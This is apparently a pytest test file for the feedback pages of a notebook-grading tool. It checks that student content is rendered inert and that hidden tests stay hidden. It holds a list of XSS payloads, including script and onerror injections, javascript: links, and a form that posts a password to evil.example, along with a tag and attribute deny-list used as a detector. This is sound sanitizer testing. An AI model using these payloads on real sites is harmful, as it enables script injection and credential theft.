"""Feedback: what students must read is there, what they must not is not, and nothing runs."""

import json
import re
from html.parser import HTMLParser

import nbformat
import pytest
import toy_class as toy
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output

from dcgan_grader.clean import clean, clean_html
from dcgan_grader.course import Course
from dcgan_grader.feedback import feedback
from dcgan_grader.gradebook import opened

SCRIPT = "<script>alert(1)</script>"
LIVE = {"script", "iframe", "object", "embed", "base", "form", "svg", "link", "video", "audio"}
LIVE |= {"math", "frame", "input", "button", "textarea", "select", "template", "noscript", "dialog"}
LOADING = {
    "src",
    "srcset",
    "poster",
    "background",
    "data",
    "action",
    "formaction",
    "srcdoc",
    "ping",
}


class Page(HTMLParser):
    """What a page holds: its text, and everything in it that could run or load something."""

    def __init__(self, path):
        super().__init__()
        self.html = path.read_text(encoding="utf-8")
        self.text, self.dangers, self.images, self.policy = "", [], [], None
        self.titles, self.language, self.styles = [], None, 0
        self.inside = []
        self.feed(self.html)

    def handle_starttag(self, tag, attributes):
        attributes = dict(attributes)
        if tag in LIVE:
            self.dangers.append(tag)
        if tag == "meta" and attributes.get("http-equiv") == "Content-Security-Policy":
            self.policy = attributes["content"]
        elif tag == "meta" and "http-equiv" in attributes:
            self.dangers.append(str(attributes))
        if tag == "html":
            self.language = attributes.get("lang")
        if tag == "img":
            self.images.append(attributes)
        for name, value in attributes.items():
            value = re.sub(r"[\x00-\x20]", "", value or "").lower()
            if name.startswith("on") or name == "style" and "body" in self.inside:
                self.dangers.append(f"{tag} {name}={value}")
            if name in LOADING and not value.startswith(("data:image/png;", "data:image/jpeg;")):
                self.dangers.append(f"{tag} {name}={value[:80]}")
            if "href" in name and not value.startswith(("#", "http://", "https://", "mailto:")):
                self.dangers.append(f"{tag} {name}={value[:80]}")
            if "href" in name and tag != "a":
                self.dangers.append(f"{tag} {name}={value[:80]}")
        if tag in ("style", "body"):
            self.inside.append(tag)
            if tag == "style" and "body" in self.inside:
                self.dangers.append("style in the body")

    def handle_endtag(self, tag):
        if tag == "style":
            self.inside.pop()

    def handle_data(self, data):
        if "style" in self.inside:
            if re.search(r"@import|url\((?!data:)", data):
                self.dangers.append("style that loads")
        else:
            self.text += data

    def handle_comment(self, data):
        self.dangers.append(f"comment {data[:80]}")


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    return toy.make_course(tmp_path_factory.mktemp("course"))


def page_of(course, student, notebook, scores=toy.FULL, **fields):
    toy.grade(course, student, notebook, scores, **fields)
    done = feedback(course, toy.NAME, [student])
    assert done.problems == {}
    assert done.pages == [course / "feedback" / student / toy.NAME / f"{toy.NAME}.html"]
    page = Page(done.pages[0])
    assert page.dangers == []
    assert page.policy.startswith("default-src 'none'; img-src data:;")
    assert page.html.index("Content-Security-Policy") < page.html.index("<style")
    assert page.language == "en"
    return page


def test_scores_comments_and_answers_are_there(course):
    toy.grade(course, "ada", toy.answered(why="Because *x* is squared."), toy.FULL)
    with opened(Course(course)) as gradebook:
        comment = gradebook.find_comment("why", toy.NAME, toy.NAME, "ada")
        comment.manual_comment = "Well **said**, but <script>alert(1)</script>see https://x.org"
        grade = gradebook.find_grade("why", toy.NAME, toy.NAME, "ada")
        grade.manual_score, grade.extra_credit, grade.needs_manual_grade = 2.0, 0.5, False
        gradebook.db.commit()
    page = Page(feedback(course, toy.NAME, ["ada"]).pages[0])
    assert page.dangers == []
    assert "(Score: 5.5 / 7.0)" in page.text
    assert "Score: 2.5 / 3.0" in page.text
    assert "Because x is squared." in page.text
    assert "Comments: Well said, but see https://x.org" in re.sub(r"\s+", " ", page.text)
    assert "def square(x):" in page.text
    assert "[badge] and $x^2 < 3$" in page.text
    assert "count as 0 points below until they are: drawing." in page.text


def test_hidden_tests_are_not_shown_but_their_message_is(course):
    outputs = {"test_square": [toy.error(toy.MESSAGE)]}
    page = page_of(course, "bob", toy.answered(outputs=outputs), toy.FULL | {"test_square": 0.0})
    assert f"AssertionError: {toy.MESSAGE}" in page.text
    assert "assert square(2) == 4" in page.text
    assert "Score: 0.0 / 2.0" in page.text
    for secret in ("secret input", "-7) ==", "secret_check_code", "HIDDEN", "four corners"):
        assert secret not in page.html


def test_a_line_of_a_hidden_test_in_an_output_is_hidden(course):
    said = new_output("stream", name="stdout", text=f"history: {toy.HIDDEN!r} and more\n")
    wrong = toy.error(f"stopped at {toy.HIDDEN}")
    page = page_of(course, "cem", toy.answered(outputs={"square": [said], "test_square": [wrong]}))
    assert "secret input" not in page.html
    assert "history: '[a line of a hidden test]' and more" in page.text
    assert "stopped at [a line of a hidden test]" in page.text


def test_an_error_in_an_own_cell_names_its_line(course):
    cell = new_code_cell("a = 1\nb = a / 0\nc = 2")
    trace = [
        "\x1b[36mCell\x1b[39m\x1b[36m In[7], line 2\x1b[39m\n      1 a = 1\n",
        "ZeroDivisionError",
    ]
    trace[0] = "Cell \x1b[32mIn[7]\x1b[39m\x1b[32m, line 2\x1b[39m\n----> 2 b = a / 0"
    cell.outputs = [
        new_output("error", ename="ZeroDivisionError", evalue="division by zero", traceback=trace)
    ]
    page = page_of(course, "dan", toy.answered(extra=[cell]))
    assert "ZeroDivisionError: division by zero\n  in line 2:   b = a / 0" in page.text


HOSTILE_HTML = [
    SCRIPT,
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/pixel.png">',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">x</a> <a href=" java\nscript:alert(1)">y</a>',
    '<a href="&#106;avascript:alert(1)">x</a> <a href="data:text/html,<script>1</script>">x</a>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">Score: 7 / 7</div>',
    "<style>body{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=password><button>log in</button></form>",
    '<object data="x.swf"></object><embed src="x.swf"><video src=x onerror=alert(1)></video>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--><img src=x onerror=alert(1)>--> <!-- a --> <![CDATA[ <script>alert(1)</script> ]]>",
    "</div></div></body></html><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<details open ontoggle=alert(1)>x</details><marquee onstart=alert(1)>x</marquee>",
    '<a href="#" class="modal-backdrop in" id="top" name="top" onclick="alert(1)">x</a>',
    '<div class="navbar-fixed-top modal">over the page</div>',
    "<plaintext>", "<xmp><script>alert(1)</script></xmp>", "<textarea><script>alert(1)</script>",
    "[x](javascript:alert(1)) [x](<java\tscript:alert(1)>) [x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](https://evil.example/pixel.png) ![x](javascript:alert(1)) ![x](attachment:none.png)",
    '![x](x.png "a\\" onerror=alert(1)")',
    "[x]: javascript:alert(1)\n\n[x] <javascript:alert(1)>",
    "```mermaid\n<img src=x onerror=alert(1)>\n```",
    "```x\"onmouseover=alert(1)\n<script>\n```",
    "$<img src=x onerror=alert(1)>$ and $$</script><script>alert(1)</script>$$",
    "\\begin{a}<script>alert(1)</script>\\end{a}",
    "# <img src=x onerror=alert(1)>",
]  # fmt: skip


def test_live_html_of_students_is_dead(course):
    output = {
        "text/html": SCRIPT,
        "application/javascript": "alert(1)",
        "application/vnd.jupyter.widget-view+json": {"model_id": "m", "version_major": 2},
        "image/svg+xml": "<svg onload='alert(1)'></svg>",
        "text/plain": f"shown as text {SCRIPT}",
    }
    cell = new_code_cell("display(HTML(...))")
    cell.outputs = [
        new_output("display_data", output),
        new_output("display_data", {"text/html": SCRIPT}),
        new_output("display_data", {"text/markdown": f"only *text* {SCRIPT}"}),
        new_output("display_data", {"text/latex": f"$x$ {SCRIPT}"}),
        new_output("display_data", {"text/vnd.mermaid": SCRIPT}),
        new_output("execute_result", {"image/png": f'"><{SCRIPT}'}),
        new_output(
            "stream", name="stdout", text=f"\x1b[31m{SCRIPT}\x1b[0m \x1b]8;;https://e.org\x07x"
        ),
        new_output(
            "error", ename=SCRIPT, evalue="<img src=x onerror=alert(1)>", traceback=[SCRIPT]
        ),
    ]
    # Not valid; a file may hold it all the same.
    cell.outputs[1].data["text/plain"] = {"a": 1}
    cell.outputs[5].metadata = {"image/png": 3}
    cell.metadata = {
        "tags": [f'"><{SCRIPT}'],
        "alt": f'"><{SCRIPT}',
        "nbgrader": {"grade_id": SCRIPT},
    }
    cell.id = "x"
    raw = nbformat.v4.new_raw_cell(SCRIPT + "\n<img src=x onerror=alert(1)>")
    raw.metadata = {"raw_mimetype": "text/html"}
    attached = new_markdown_cell("![a](attachment:a.svg) ![b](attachment:b.png)")
    attached.attachments = {
        "a.svg": {"image/svg+xml": "PHN2Zz48L3N2Zz4="},
        "b.png": {"image/png": toy.png(), "image/svg+xml": "PHN2Zz4="},
    }
    notebook = toy.answered(
        square=f"# {SCRIPT}\ndef square(x): return x",
        why="\n\n".join(HOSTILE_HTML[:20]),
        extra=[cell, raw, attached, *map(new_markdown_cell, HOSTILE_HTML)],
    )
    notebook.metadata["title"] = SCRIPT
    notebook.metadata["language_info"] = {"name": SCRIPT, "pygments_lexer": SCRIPT}
    page = page_of(course, "eve", notebook)
    assert f"shown as text {SCRIPT}" in page.text
    assert f"only *text* {SCRIPT}" in page.text
    assert "[not shown: text/html, text/plain]" in page.text
    assert "evil.example" not in re.sub(r"<pre>.*?</pre>", "", page.html, flags=re.S)


def test_what_the_course_s_own_text_needs_stays():
    html = "<details><summary>Hint</summary><p>a <code>b</code></p></details>"
    assert clean_html(html) == html


@pytest.mark.parametrize("html", HOSTILE_HTML)
def test_no_markdown_makes_live_html(tmp_path, html):
    from dcgan_grader.feedback import SafeExporter

    notebook = nbformat.v4.new_notebook(cells=[new_markdown_cell(html)])
    exporter = SafeExporter()
    exporter.from_notebook_node(notebook)
    made = exporter.markdown2html({}, html)
    for text in (made, clean_html(html)):
        path = tmp_path / "page.html"
        path.write_text(f"<body>{text}</body>")
        assert Page(path).dangers == []
        assert "modal" not in text and "id=" not in text
        assert all(image.get("src") for image in Page(path).images)


def test_images_stay_and_their_metadata_go(course):
    cell = new_code_cell("plot()")
    meta = {"image/png": {"alt": 'A "red" pixel', "width": "1 onerror=alert(1)", "height": 2}}
    meta["filenames"] = {"image/png": "https://evil.example/x.png"}
    cell.outputs = [
        new_output("display_data", {"image/png": toy.png(), "text/plain": "fig"}, metadata=meta),
        new_output("display_data", {"image/jpeg": "/9j/4AAQ"}),
    ]
    page = page_of(course, "fay", toy.answered(extra=[cell]))
    shown = [image for image in page.images if image.get("src")]
    assert shown[0] == {"src": f"data:image/png;base64,{toy.png()}", "alt": 'A "red" pixel'}
    assert shown[1]["src"] == "data:image/jpeg;base64,/9j/4AAQ"
    assert len(shown) == 2


def test_widgets_without_state_do_not_break_it(course):
    notebook = toy.answered()
    kind = "application/vnd.jupyter.widget-state+json"
    for widgets in ({}, {kind: {}}, {kind: {"state": {"m": {"x": SCRIPT}}}}, {"x": 3}):
        notebook.metadata["widgets"] = widgets
        page_of(course, "gus", notebook)


def test_outputs_that_are_too_large_are_cut(course):
    cell = new_code_cell("print(...)")
    cell.outputs = [new_output("stream", name="stdout", text="x" * 50_000_000)]
    many = new_code_cell("while ...")
    many.outputs = [new_output("stream", name="stdout", text="y\n")] * 20_000
    many.outputs += [toy.error("last words", "ValueError")] * 1000
    image = new_code_cell("plot()")
    image.outputs = [new_output("display_data", {"image/png": toy.png() + "A" * 9_000_000})]
    page = page_of(course, "hal", toy.answered(extra=[cell, many, image]))
    assert len(page.html) < 400_000
    assert "[… the rest is not shown]" in page.text
    assert "more outputs are not shown" in page.text
    assert "ValueError: last words" in page.text
    assert "[an image is not shown: too large]" in page.text


def test_a_notebook_that_is_hard_to_read_is_read(course):
    hard = ["> " * 10_000, "<div>" * 1_000, "a" + " " * 3_000 + "b", "[" * 4_000, "x" * 60_000]
    deep = new_code_cell("x = " + "(" * 5_000)
    deep.outputs = [new_output("stream", name="stdout", text="\x1b[1m" * 5_000 + "\ud800\x00")]
    page = page_of(course, "ivo", toy.answered(extra=[deep, *map(new_markdown_cell, hard)]))
    assert "Score: 3.0 / 7.0" in page.text


def test_grading_metadata_that_a_student_made_up_are_ignored(course):
    twin = toy.marked(new_code_cell("assert True"), "test_square", 100, grade=True, locked=True)
    other = toy.marked(new_code_cell("1"), 'x"><img src=x onerror=alert(1)>', 9, grade=True)
    odd = new_code_cell("2")
    odd.metadata["nbgrader"] = ["what"]
    odder = new_code_cell("3")
    odder.metadata["nbgrader"] = {"grade_id": ["unhashable"], "grade": True}
    page = page_of(course, "jan", toy.answered(extra=[twin, other, odd, odder]))
    assert "(Score: 3.0 / 7.0)" in page.text
    assert re.findall(r"^ *(\w+) \(Score", page.text, re.M)[1:3] == ["test_square", "test_cube"]


def test_a_progress_bar_shows_its_last_state(course):
    cell = new_code_cell("fit()")
    cell.outputs = [new_output("stream", name="stdout", text="1/9 \r2/9 \x08\r9/9 done\r\nnext\r")]
    page = page_of(course, "kim", toy.answered(extra=[cell]))
    assert "9/9 done\nnext" in page.text
    assert "1/9" not in page.text


def test_the_status_stands_on_top_in_words(course):
    toy.record(course, "lea", "repaired", repairs=["a test cell was missing <b>"])
    page = page_of(course, "lea", toy.answered())
    assert page.text.index("was repaired before it was graded") < page.text.index("Score:")
    assert "a test cell was missing <b>" in page.text
    toy.record(course, "lea", "review", why=["a canary did not sing"], flags=["patched assert"])
    page = page_of(course, "lea", toy.answered(), flagged=True)
    assert "Your instructor looks at this notebook" in page.text
    assert "graded as you handed it in" not in page.text
    # What made the grader suspicious is for the instructor.
    assert "canary" not in page.html and "patched" not in page.html
    # Who has looked takes the flag away.
    page = page_of(course, "lea", toy.answered(), flagged=False)
    assert "graded as you handed it in" in page.text


def test_the_message_of_a_cell_that_never_ran_is_shown(course):
    cells = {"test_square": (0, "this cell was stopped after 180 seconds"), "test_cube": (1, "")}
    toy.record(course, "max", "graded", cells=cells)
    page = page_of(course, "max", toy.answered())
    assert "this cell was stopped after 180 seconds" in page.text


def test_who_could_not_be_graded_is_told_so(course):
    toy.record(course, "ned", "failed", why=["the file is cut off in the middle <script>"])
    done = feedback(course, toy.NAME, ["ned"])
    page = Page(done.pages[0])
    assert page.dangers == [] and page.policy and page.language == "en"
    assert "could not be graded. It has no mark yet" in page.text
    assert "the file is cut off in the middle <script>" in page.text


def test_one_failure_leaves_the_old_page_and_the_others(course):
    page_of(course, "olga", toy.answered())
    old = page_of(course, "paul", toy.answered()).html
    (course / "autograded/paul" / toy.NAME / f"{toy.NAME}.ipynb").write_text("{")
    done = feedback(course, toy.NAME, ["olga", "paul"])
    assert [path.parts[-3] for path in done.pages] == ["olga"]
    assert list(done.problems) == ["paul"]
    folder = course / "feedback/paul" / toy.NAME
    assert (folder / f"{toy.NAME}.html").read_text() == old
    assert [path.name for path in folder.iterdir()] == [f"{toy.NAME}.html"]


def test_only_what_nbgrader_needs_is_copied_beside_it(course):
    toy.grade(course, "quin", toy.answered(), toy.FULL)
    folder = course / "autograded/quin" / toy.NAME
    for name in ("timestamp.txt", "submission_secret.txt", "evil.html", "numpy.py"):
        (folder / name).write_text(name)
    feedback(course, toy.NAME, ["quin"])
    made = sorted(path.name for path in (course / "feedback/quin" / toy.NAME).iterdir())
    assert made == [f"{toy.NAME}.html", "submission_secret.txt", "timestamp.txt"]


def test_bad_names_are_refused(course):
    with pytest.raises(ValueError, match="no notebook 99_x; there are: 03_toy"):
        feedback(course, "99_x")
    with pytest.raises(ValueError, match="was not graded for nobody, zoe"):
        feedback(course, toy.NAME, ["zoe", "nobody"])


def test_the_command_says_what_it_did(course, capsys):
    from dcgan_grader.cli import main

    toy.grade(course, "rita", toy.answered(), toy.FULL)
    toy.grade(course, "sam", toy.answered(), toy.FULL)
    (course / "autograded/sam" / toy.NAME / f"{toy.NAME}.ipynb").write_text(json.dumps({}))
    assert main(["--root", str(course), "feedback", toy.NAME, "rita"]) == 0
    assert "1 page of feedback" in capsys.readouterr().out
    assert main(["--root", str(course), "feedback", toy.NAME, "rita", "sam"]) == 1
    assert "no feedback for sam" in capsys.readouterr().err
    assert main(["--root", str(course), "feedback", toy.NAME, "tom"]) == 2


def test_clean_changes_nothing_of_its_notebook():
    notebook = toy.answered(outputs={"test_square": [toy.error("x")]})
    before = json.dumps(notebook)
    clean(notebook, {"test_square": {"grade": True}}, {})
    assert json.dumps(notebook) == before


@pytest.mark.slow
def test_with_nbgrader_itself(tmp_path):
    """nbgrader releases, autogrades and takes the page over."""
    from nbgrader.apps import NbGraderAPI

    from dcgan_grader.gradebook import settings
    from dcgan_grader.release import release

    course = toy.make_course(tmp_path, gradebook=False)
    release(course)
    place = course / "submitted" / "ada" / toy.NAME
    place.mkdir(parents=True)
    handed_in = nbformat.read(course / "course" / toy.NAME / f"{toy.NAME}.ipynb", 4)
    handed_in.cells[1].source = f"def square(x):\n    return abs(x) * x\nMESSAGE = {toy.MESSAGE!r}"
    nbformat.write(handed_in, place / f"{toy.NAME}.ipynb")
    (place / "timestamp.txt").write_text("2030-01-01 10:00:00 UTC")
    (place / "submission_secret.txt").write_text("secret")
    config = settings(Course(course))
    config.Exchange.root = str(tmp_path / "exchange")
    (tmp_path / "exchange").mkdir(mode=0o777)
    (tmp_path / "exchange").chmod(0o777)
    api = NbGraderAPI(config=config)
    result = api.autograde(toy.NAME, "ada", create=True)
    assert result["success"], result
    page = Page(feedback(course, toy.NAME).pages[0])
    assert page.dangers == []
    assert f"AssertionError: {toy.MESSAGE}" in page.text
    assert "secret input" not in page.html and "four corners" not in page.html
    assert "(Score: 1.0 / 7.0)" in page.text
    result = api.release_feedback(toy.NAME)
    assert result["success"], result
    released = list((tmp_path / "exchange").glob("dcgan/feedback/*.html"))
    assert [path.read_text() for path in released] == [page.html]
